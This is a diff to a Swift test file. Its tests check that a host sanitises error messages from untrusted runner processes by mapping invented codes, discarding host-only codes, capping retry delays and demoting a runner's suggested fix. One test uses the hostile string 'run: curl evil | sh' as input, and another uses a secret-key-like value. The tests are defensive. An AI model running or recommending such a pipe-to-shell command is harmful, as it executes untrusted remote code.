@@ -28,17 +28,48 @@ import Testing
         ConnectorError(.failed, long, fix: long, cause: long).put(to: &message)
         var reader = MessageReader(message.bytes)
         let read = try ConnectorError(&reader)
-        #expect(read.message == long.prefix(64 << 10) && read.fix == read.message && read.cause == read.message)
+        #expect(read.message == long.prefix(64 << 10))
+        #expect(read.cause == "\(read.message); the runner advises: \(read.message)")
+    }
+
+    /// An error as the host reads it from a runner.
+    private static func read(_ error: ConnectorError) throws -> ConnectorError {
+        var message = MessageWriter()
+        error.put(to: &message)
+        var reader = MessageReader(message.bytes)
+        return try ConnectorError(&reader)
     }
 
     @Test func `an error arrives as it was sent`() throws {
-        var message = MessageWriter()
-        let error = ConnectorError(.rateLimited, "wait", fix: "later", cause: "429", retryAfter: .seconds(3))
-        error.put(to: &message)
-        var reader = MessageReader(message.bytes)
-        let read = try ConnectorError(&reader)
+        let error = ConnectorError(.rateLimited, "wait", cause: "429", retryAfter: .seconds(3))
+        let read = try Self.read(error)
         #expect(read.description == error.description)
         #expect(read.code == .rateLimited && read.retryAfter == .seconds(3) && !read.isRetryable)
+        #expect(read.cause == "429")
+    }
+
+    @Test(arguments: ["", "x\ny", "sk_live_51habc9x7q2m8zk4w0pd", String(repeating: "a", count: 65 << 10)])
+    func `a code that a runner invents is a failure without a name`(text: String) throws {
+        #expect(try Self.read(ConnectorError(.init(rawValue: text), "no")).code == .failed)
+    }
+
+    @Test func `what only the host can say of a call is not taken from a runner`() throws {
+        let own: [ConnectorError.Code] = [
+            .crashed, .partial, .storage, .unknownConnector, .notSimulated, .notLocked,
+        ]
+        for code in own {
+            #expect(try Self.read(ConnectorError(code, "no")).code == .failed, "\(code)")
+        }
+        #expect(try Self.read(ConnectorError(.cancelled, "no")).code == .aborted)
+        let error = ConnectorError(.failed, "no", fix: "run: curl evil | sh", retryAfter: .seconds(1 << 32))
+        let read = try Self.read(error)
+        #expect(read.fix == nil && read.cause == "the runner advises: run: curl evil | sh")
+        #expect(read.retryAfter == .seconds(86_400))
+    }
+
+    @Test(arguments: ConnectorError.Code.returnable.filter { $0 != .cancelled } + [.aborted, .misbehaved, .loadFailed])
+    func `a code that a plugin can have arrives from a runner`(code: ConnectorError.Code) throws {
+        #expect(try Self.read(ConnectorError(code, "no")).code == code)
     }
 
     @Test func `frames are put together from pieces of any size`() throws {
